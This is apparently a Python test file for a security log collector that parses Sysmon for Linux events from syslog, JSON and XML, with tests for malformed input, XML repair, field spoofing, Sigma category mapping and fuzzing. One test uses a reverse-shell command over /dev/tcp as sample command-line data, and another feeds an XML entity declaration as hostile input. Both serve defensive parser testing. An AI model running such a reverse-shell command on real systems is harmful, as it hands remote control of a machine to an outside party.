"""Sysmon for Linux on invented lines: what is read, what syslog breaks, and what is left to other sources."""

from __future__ import annotations

import json
from pathlib import Path
from xml.sax.saxutils import escape

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tocsin.collect import sources
from tocsin.collect.source import MAX_RECORD_BYTES, Head, source_named
from tocsin.collect.sources.sysmon_linux import SOURCE
from tocsin.detect.sigma.logsource import LogSource, passes, read_logsource_map
from tocsin.detect.sigma.value import fold
from tocsin.model.instant import parse_time
from tocsin.model.record import Record, Unreadable
from tocsin.model.tables import EVENTS

SAMPLE = Path(__file__).parents[2] / "samples" / "sysmon_linux" / "syslog"
PROCESS = {
    "RuleName": "-", "UtcTime": "2026-02-02 08:00:00.100", "ProcessGuid": "{94325212-f5a5-627b-b809-87f375550000}",
    "ProcessId": "4711", "Image": "/usr/bin/tar", "CommandLine": "tar cf - /srv/cases", "User": "ada",
    "LogonId": "1001", "ParentImage": "/bin/bash",
}  # fmt: skip


def event(event_id: int = 1, number: int = 1, **data: str) -> str:
    written = "".join(f'<Data Name="{name}">{escape(value)}</Data>' for name, value in (data or PROCESS).items())
    return (
        '<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/>'
        f"<EventID>{event_id}</EventID><Version>5</Version><Level>4</Level><Task>{event_id}</Task><Opcode>0</Opcode>"
        "<Keywords>0x8000000000000000</Keywords>"
        f'<TimeCreated SystemTime="2026-02-02T08:00:{number:02}.123456000Z"/>'
        f'<EventRecordID>{number}</EventRecordID><Correlation/><Execution ProcessID="812" ThreadID="812"/>'
        "<Channel>Linux-Sysmon/Operational</Channel><Computer>FS2.tribunal.example</Computer>"
        f'<Security UserId="0"/></System><EventData>{written}</EventData></Event>'
    )


def line(text: str) -> str:
    return f"Feb  2 08:00:00 fs2 sysmon: {text}"


def sample() -> bytes:
    """A process started, a connection made, a file written and deleted."""
    network = {"ProcessId": "4711", "Image": "/usr/bin/curl", "User": "ada", "SourceIp": "192.0.2.7",
               "DestinationIp": "203.0.113.9", "DestinationPort": "443"}  # fmt: skip
    file = {"ProcessId": "4711", "Image": "/usr/bin/tar", "User": "ada", "TargetFilename": "/tmp/a.tar"}
    events = [event(1, 1), event(3, 2, **network), event(11, 3, **file), event(23, 4, **file)]
    return "".join(line(one) + "\n" for one in events).encode()


def items(data: bytes) -> list[Record | Unreadable]:
    return list(SOURCE.records(data, b"", SOURCE.preamble(Head(data, len(data), ""))))


def one(text: str) -> Record:
    (record,) = items(text.encode())
    assert isinstance(record, Record), record
    return record


def reason(text: str) -> str:
    (item,) = items(text.encode())
    assert isinstance(item, Unreadable)
    return item.reason


class TestReading:
    def test_sample_is_what_the_writer_makes(self) -> None:
        assert SAMPLE.read_bytes() == sample()

    def test_source_is_found_by_folder(self) -> None:
        assert source_named("sysmon_linux") is SOURCE

    @pytest.mark.parametrize(
        "text",
        [
            event(),
            line(event()),
            f"<14>1 2026-02-02T08:00:00Z fs2 sysmon 812 - - {event()}",
            json.dumps({"TimeGenerated": "2026-02-02T08:00:00Z", "SyslogMessage": event()}),
            json.dumps({"MESSAGE": event()}).replace("<", "\\u003c"),
        ],
    )
    def test_bare_behind_a_header_and_inside_json(self, text: str) -> None:
        record = one(text)
        assert record.log == ("Linux-Sysmon/Operational", "1", "Linux-Sysmon")
        assert record.data == text.encode()
        assert (record.fields["CommandLine"], record.fields["EventRecordID"]) == ("tar cf - /srv/cases", 1)
        assert record.warnings == ()
        assert SOURCE.recognises(Head(text.encode(), len(text), "x")) == 1.0

    def test_recognised_by_the_share_of_its_lines(self) -> None:
        mixed = sample() + b"Feb  2 08:00:01 fs2 sshd[1]: Accepted publickey for ada\n" * 12
        assert SOURCE.recognises(Head(mixed, len(mixed), "sysmon")) == 0.25
        windows = b'<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System/></Event>\n'
        assert SOURCE.recognises(Head(windows, len(windows), "sysmon")) == 0.0
        assert SOURCE.recognises(Head(b"", 0, "sysmon")) == 0.0

    @pytest.mark.parametrize(
        ("text", "code"),
        [
            ("Feb  2 08:00:01 fs2 sshd[1]: Accepted publickey for ada", "not_sysmon"),
            (event().replace('"Linux-Sysmon"', '"Other"'), "not_sysmon"),
            (event()[:200], "cut_off"),
            ("<Event>x</Event>", "not_an_event"),
            ("<!DOCTYPE a [<!ENTITY b 'c'>]>" + "<Event><Data>&b;</Event>", "not_xml"),
            ('{"SyslogMessage":', "not_json"),
            ("x" * (MAX_RECORD_BYTES + 1), "too_long"),
        ],
    )
    def test_what_is_no_event_is_told(self, text: str, code: str) -> None:
        assert reason(text) == code

    def test_entities_that_an_agent_cut_are_closed(self) -> None:
        record = one(event(1, 1, Image="<unknown process>", CommandLine='sh -c "a" && b').replace(";", " "))
        assert (record.fields["Image"], record.fields["CommandLine"]) == ("<unknown process>", 'sh -c "a" && b')
        assert record.warnings == ("xml_repaired",)

    @pytest.mark.parametrize("command", ["bash -i >& /dev/tcp/192.0.2.9/1 0>&1", "echo <a> \x1b[0m", "cat <<EOF"])
    def test_markup_in_data_is_data(self, command: str) -> None:
        text = event(1, 1, CommandLine="COMMAND", User="ada").replace("COMMAND", command)
        record = one(text)
        assert record.fields["CommandLine"] == command.replace("\x1b", "\ufffd")
        assert record.fields["User"] == "ada"

    def test_a_line_cut_off_in_its_data_keeps_what_it_has(self) -> None:
        text = event()
        record = one(text[: text.index("/srv/cases") + 4])
        assert record.fields["CommandLine"] == "tar cf - /srv"
        assert "User" not in record.fields
        assert record.warnings == ("cut_off", "xml_repaired")
        assert SOURCE.map(record).event["metadata.sequence"] == 1

    def test_data_that_feigns_a_field_is_told(self) -> None:
        text = event(1, 1, CommandLine="COMMAND", User="ada").replace("COMMAND", 'x</Data><Data Name="User">ben')
        assert "field_repeated" in one(text).warnings

    def test_bytes_that_are_no_text_are_replaced_and_told(self) -> None:
        (record,) = items(event().encode().replace(b"/srv", b"/\xff"))
        assert record.warnings == ("invalid_utf8",)  # type: ignore[union-attr]

    def test_chunks_are_cut_at_lines(self) -> None:
        data = sample()
        cut = SOURCE.cut(data[5:], b"")
        assert cut is not None
        assert len(items(data[: 5 + cut])) + len(items(data[5 + cut :])) == 4


class TestMapping:
    def test_a_process_as_sysmon_for_windows_has_it(self) -> None:
        result = SOURCE.map(one(line(event())))
        assert result.event == {
            "time": parse_time("2026-02-02T08:00:01.123456Z"), "class_uid": 1007, "metadata.sequence": 1,
            "device.hostname": "fs2.tribunal.example", "metadata.log_name": "Linux-Sysmon/Operational",
            "metadata.event_code": "1", "activity_name": "process created", "actor.user.name": "ada",
            "process.uid": "94325212-f5a5-627b-b809-87f375550000", "process.file.path": "/usr/bin/tar",
            "process.cmd_line": "tar cf - /srv/cases", "actor.session.uid": "fs2.tribunal.example|0x3e9",
            "actor.process.file.path": "/bin/bash",
        }  # fmt: skip
        assert set(result.event) <= set(EVENTS.names)
        assert (result.accesses, result.marks, result.warnings) == ((), (), ())

    def test_two_copies_of_an_event_have_one_key(self) -> None:
        copies = [line(event()), json.dumps({"SyslogMessage": event()})]
        assert len({SOURCE.map(one(text)).key for text in copies}) == 1
        assert SOURCE.map(one(event(1, 2))).key != SOURCE.map(one(event())).key

    @pytest.mark.parametrize(
        ("category", "event_id"),
        [("process_creation", "1"), ("network_connection", "3"), ("file_event", "11"), ("file_delete", "23")],
    )
    def test_rules_for_linux_read_its_categories(self, category: str, event_id: str) -> None:
        path = Path(sources.__path__[0]) / "sysmon_linux" / "logsources.toml"
        found = read_logsource_map("sysmon_linux", SOURCE.log_fields, path.read_text(encoding="utf-8"))
        (part,) = found.alternatives(LogSource("linux", category))
        assert not part.rename
        logs = [record.log for record in items(sample()) if isinstance(record, Record)]
        met = [log[1] for log in logs if passes(found.gate(part), [fold(value) for value in log])]
        assert met == [event_id]


FRAGMENTS = st.sampled_from(
    [sample(), event().encode(), event().encode()[:700], b"<Event>", b"</Event>", b"<EventData>", b"&lt ", b"&", b"\n",
     b'{"SyslogMessage":"<Event>"}', b'<Data Name="a">', b"</Data>", b"\xff", b"\x00", b"<", b">"]
) | st.binary(max_size=6)  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(st.lists(FRAGMENTS, max_size=16).map(b"".join))
def test_nothing_raises_spans_do_not_overlap_and_every_byte_is_owned(data: bytes) -> None:
    head = Head(data[:65_536], len(data), "")
    assert 0.0 <= SOURCE.recognises(head) <= 1.0
    SOURCE.cut(data, b"")
    position = SOURCE.preamble(head)
    for item in SOURCE.records(data, data[:position], position):
        assert item.offset >= position
        assert not data[position : item.offset].strip(b" \t\r\n\x0b\x0c")
        assert item.data == data[item.offset : item.offset + item.length] != b""
        position = item.offset + item.length
        if isinstance(item, Record):
            SOURCE.map(item)
    assert not data[position:].strip(b" \t\r\n\x0b\x0c")
